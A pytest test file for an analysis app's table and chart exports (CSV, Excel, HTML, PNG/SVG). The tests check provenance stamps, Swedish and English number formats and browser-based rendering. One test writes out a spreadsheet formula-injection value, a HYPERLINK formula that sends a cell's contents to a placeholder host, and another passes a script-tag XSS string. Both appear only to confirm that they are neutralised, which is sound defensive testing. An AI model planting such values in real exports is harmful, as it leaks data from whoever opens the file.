import io
import os

import numpy as np
import openpyxl
import pandas as pd
import plotly.graph_objects as go
import pytest

from analysis.present import exports
from analysis.present.exports import (
    ExportError,
    figure_to_image,
    table_to_csv,
    table_to_excel,
    table_to_html,
    tabulate_figure,
)
from analysis.present.stamp import describe_filters, describe_suppression, make_stamp
from analysis.selection import Filters, Selection

STAMP = make_stamp("abc123def456", Selection("demo", Filters(sex=("F",))), "Welch", 5, 5, "sv")
TABLE = pd.DataFrame({"Åldersgrupp": ["65–75 år", "76–85 år"], "Antal": ["..", "12"], "Medel": ["..", "10,2"]})

needs_browser = pytest.mark.skipif(
    exports.find_browser() is None and not os.environ.get("CI"),
    reason="no Chromium here (CI installs it and runs these)",
)


def test_csv_reads_back_with_its_stamp():
    data = table_to_csv(TABLE, STAMP, "sv")
    back = pd.read_csv(io.BytesIO(data), comment="#", dtype=str, encoding="utf-8-sig")
    pd.testing.assert_frame_equal(back, TABLE)
    text = data.decode("utf-8-sig")
    for needle in ("# Studie: demo", "# Urval: Kön: Kvinnor", "# Dataversion: abc123def456", "# Metoder: Welch"):
        assert needle in text
    assert "färre än 5 personer" in text


def test_excel_reads_back_with_its_stamp():
    book = openpyxl.load_workbook(io.BytesIO(table_to_excel(TABLE, STAMP, "en")))
    assert book.sheetnames == ["Table", "Source"]
    rows = list(book["Table"].values)
    assert rows[0] == ("Åldersgrupp", "Antal", "Medel") and rows[1] == ("65–75 år", "..", "..")
    assert "abc123def456" in rows[-1][0]
    source = dict(book["Source"].values)
    assert source["Data version"] == "abc123def456" and source["Study"] == "demo"


def test_a_static_table_reads_back_as_shown():
    turned = TABLE.set_index("Åldersgrupp").T
    turned.columns.name = None
    html = table_to_html(turned, "sv", "Tabell 1")
    (back,) = pd.read_html(io.StringIO(html), index_col=0, thousands=None, keep_default_na=False)
    back.index.name = None
    pd.testing.assert_frame_equal(back.astype(str), turned)
    assert html.count('<th scope="row">') == 2 and html.count('<th scope="col">') == 2
    assert 'aria-label="Tabell 1"' in html and 'class="ihr-table"' in html


@pytest.mark.parametrize(
    ("value", "lang", "shown"),
    [
        ("<script>alert(1)</script> & co", "sv", "&lt;script&gt;alert(1)&lt;/script&gt; &amp; co"),
        (1234, "sv", "1\u00a0234"),
        (np.int64(1234), "en", "1,234"),
        (-1234.56, "sv", "\u2212" + "1\u00a0234,6"),
        (2.25, "en", "2.2"),  # half to even at one decimal, as texts.format_number
        (float("nan"), "sv", ".."),
        (None, "sv", ".."),
        (pd.NA, "en", ".."),
    ],
)
def test_a_static_table_cell_is_escaped_or_formatted_in_the_language(value, lang, shown):
    html = table_to_html(pd.DataFrame({"65–75 år": [value]}, index=["Medel"], dtype=object), lang)
    assert f"<td>{shown}</td>" in html


def test_a_static_table_names_its_row_headers_column_when_the_index_has_a_name():
    table = pd.DataFrame({"a": ["1"]}, index=pd.Index(["x"], name='Mått "A"'))
    html = table_to_html(table, "sv")
    assert '<th scope="col">Mått &quot;A&quot;</th>' in html and "aria-label" not in html


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        (Filters(), "inga (alla)"),
        (Filters(sex=("F", "M")), "inga (alla)"),  # both sexes chosen: the same people as no filter
        (Filters(sex=("F",)), "Kön: Kvinnor"),
        (Filters(application_type=("new",), district=("",)), "Typ av ansökan: Ny ansökan; Distrikt: (okänt)"),
    ],
)
def test_filters_in_words(filters, expected):
    assert describe_filters(filters, "sv") == expected


def test_suppression_off_is_written_plainly():
    assert "VISAS" in describe_suppression(1, 5, "sv") and "SHOWN" in describe_suppression(1, 5, "en")
    assert describe_suppression(5, 5, "en") == "fewer than 5 people shown as '..'"


def test_figure_values_as_a_table():
    fig = go.Figure(
        [
            go.Scatter(x=["a", "b"], y=[2.0, 3.0], name="I", error_y={"array": [1.0, 0.5], "arrayminus": [0.5, 1.0]}),
            go.Scatter(x=[0, 1, 0], y=[0, 1, 1], fill="toself", showlegend=False),  # a ribbon: left out
        ]
    )
    values = tabulate_figure(fig)
    assert values.to_dict("list") == {
        "series": ["I", "I"],
        "x": ["a", "b"],
        "y": [2.0, 3.0],
        "low": [1.5, 2.0],
        "high": [3.0, 3.5],
    }


def test_no_browser_gives_a_message_not_a_traceback(monkeypatch):
    monkeypatch.setattr(exports, "find_browser", lambda: None)
    with pytest.raises(ExportError, match="Chromium"):
        figure_to_image(go.Figure(), "png", STAMP, "sv")
    with pytest.raises(ExportError, match="bildformat"):
        figure_to_image(go.Figure(), "gif", STAMP, "sv")


@pytest.mark.slow
@needs_browser
def test_chart_images_carry_the_stamp():
    fig = go.Figure(go.Scatter(x=[1, 2], y=[3, 4], name="Intervention"))
    png = figure_to_image(fig, "png", STAMP, "sv")
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    svg = figure_to_image(fig, "svg", STAMP, "sv").decode()
    assert svg.startswith("<svg") and "abc123def456" in svg and "Studie: demo" in svg
    assert fig.layout.annotations == ()  # the shown chart is left as it was


@needs_browser
def test_chart_images_asked_for_at_once_each_get_their_own():
    # One Chromium is kept for every session's exports (about 0.25 s an image instead of 3 s). Kaleido's own
    # shared server hands results back in a queue that two threads could swap; our calls take turns.
    from concurrent.futures import ThreadPoolExecutor

    figures = [
        go.Figure(go.Scatter(x=[1, 2], y=[i, i + 1]), layout={"title": {"text": f"rubrik{i}x"}}) for i in range(4)
    ]
    with ThreadPoolExecutor(4) as pool:
        images = list(pool.map(lambda fig: figure_to_image(fig, "svg", STAMP, "sv").decode(), figures))
    for i, svg in enumerate(images):
        assert f"rubrik{i}x" in svg
        assert not [j for j in range(4) if j != i and f"rubrik{j}x" in svg]


def test_a_failed_drawing_says_so_and_the_next_starts_a_new_browser(monkeypatch):
    started = []

    class Broken:
        async def calc_fig(self, figure, opts):
            raise RuntimeError("browser went away")

        async def close(self):
            return None

    def start(renderer):
        import asyncio
        import threading

        renderer._loop = asyncio.new_event_loop()
        threading.Thread(target=renderer._loop.run_forever, daemon=True).start()
        renderer._kaleido = Broken()
        started.append(1)

    monkeypatch.setattr(exports.ChartRenderer, "_start", start)
    renderer = exports.ChartRenderer(timeout_s=5)
    for _ in range(2):
        with pytest.raises(ExportError, match="kunde inte ritas som bild"):
            renderer.render({"data": []}, {"format": "png"})
    assert len(started) == 2 and renderer._kaleido is None  # closed after each failure, started again


def test_formula_like_text_reaches_csv_and_excel_as_text():
    # Issue 15: a district named =HYPERLINK(...) became a live formula in the Excel export; CSV cells starting
    # with =, +, -, @ or a tab were written as they are. They now start with an apostrophe (OWASP).
    hostile = '=HYPERLINK("http://x/leak?d="&A1,"klick")'
    table = pd.DataFrame({"Distrikt": [hostile, "+1", "@SUM(A1)", "Centrum"], "Antal": ["12", "..", "7", "9"]})
    stamp = make_stamp("abc", Selection("=1+1", Filters(district=(hostile,))), "Welch", 5, 5, "en")
    csv = pd.read_csv(io.BytesIO(table_to_csv(table, stamp, "en")), comment="#", dtype=str, encoding="utf-8-sig")
    assert csv["Distrikt"].tolist() == [f"'{hostile}", "'+1", "'@SUM(A1)", "Centrum"]
    book = openpyxl.load_workbook(io.BytesIO(table_to_excel(table, stamp, "en")))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    assert book["Table"]["A2"].value == f"'{hostile}"
    assert dict(book["Source"].values)["Study"] == "'=1+1"


def test_exported_figures_are_numbers_with_excel_formats(small_demo_path):
    # Issue 16: exported numbers were text ('10,2 (8,1 till 12,4)'); now one column per figure, numbers at full
    # precision, with Excel number formats (shown with the reader's own separators) and set column widths.
    import io

    import openpyxl

    from analysis.present import figures
    from analysis.present.stamp import make_stamp
    from analysis.present.viewer import view_page
    from analysis.selection import Filters, Selection
    from analysis.store import db

    con = db.connect(small_demo_path)
    try:
        selection = Selection("demo", Filters(), month=12)
        overview = view_page(con, "overview", selection, 5)
        placement = view_page(con, "placement", selection, 5)
    finally:
        con.close()
    stamp = make_stamp("abc", selection, "Welch", 5, 5, "sv")
    tables = {
        "hours": (figures.hours_figures(overview["hours"], "sv"), "Skillnad – 95 % KI, nedre"),
        "people": (figures.people_figures(overview["people"], "sv"), "Antal"),
        "placement": (figures.placement_figures(placement["placement"], "sv"), "Hazardkvot, Cox – 95 % KI, övre"),
    }
    for name, (frame, figure) in tables.items():
        assert figure in frame.columns, (name, list(frame.columns))
        book = openpyxl.load_workbook(io.BytesIO(table_to_excel(frame, stamp, "sv")))
        sheet = book["Tabell"]
        headers = [cell.value for cell in sheet[1]]
        column = headers.index(figure) + 1
        cells = [sheet.cell(row=r, column=column) for r in range(2, len(frame) + 2)]
        shown = [c for c in cells if c.value is not None]
        assert shown and all(isinstance(c.value, int | float) for c in shown), name
        assert all(c.number_format.startswith(("#,##0", "0.0")) for c in shown), name
        assert sheet.column_dimensions[sheet.cell(row=1, column=column).column_letter].width >= len(figure)
        back = pd.read_csv(io.BytesIO(table_to_csv(frame, stamp, "sv")), comment="#")
        assert pd.api.types.is_numeric_dtype(back[figure]), name
        numeric = frame[figure].to_numpy(dtype=float)
        assert np.allclose(back[figure].to_numpy(dtype=float), numeric, equal_nan=True)  # full precision


@pytest.mark.parametrize(("lang", "separators"), [("sv", ",\u00a0"), ("en", ".,")])
def test_charts_speak_the_page_language(lang, separators):
    # Issue 16: hover labels showed '10.24067' in Swedish mode and cut arm names to 'Intensiv hem…'.
    from views.downloads import localize_figure

    figure = go.Figure(go.Scatter(x=[1, 2], y=[10.24067, 3.5], name="Intensiv hemrehabilitering"))
    shown = localize_figure(figure, lang)
    assert shown.layout.separators == separators and shown.layout.hoverlabel.namelength == -1
    assert shown.layout.yaxis.hoverformat == ",.2~f" and figure.layout.separators is None  # a copy
    stamp = make_stamp("abc", Selection("demo", Filters()), "Welch", 5, 5, lang)
    assert exports.stamp_figure(figure, stamp, lang).layout.separators == separators


@pytest.mark.parametrize("title", ["", "Timmar per månad"])
def test_a_chart_names_its_selection_in_its_title(title):
    # Issue 30 item 6: the selection in the chart titles, so a chart pasted into a memo keeps which people it shows.
    import plotly.graph_objects as go

    from views.downloads import title_selection

    figure = go.Figure(go.Bar(x=[1], y=[2]))
    if title:
        figure.update_layout(title={"text": title})
    out = title_selection(figure, "Kön: kvinnor", "sv")
    named = out.layout.title.subtitle.text if title else out.layout.title.text
    assert named == "Urval: Kön: kvinnor"
    assert (out.layout.title.text or "") == (title or "Urval: Kön: kvinnor")
    assert figure.layout.title.text in (None, title)  # the page's figure is not changed
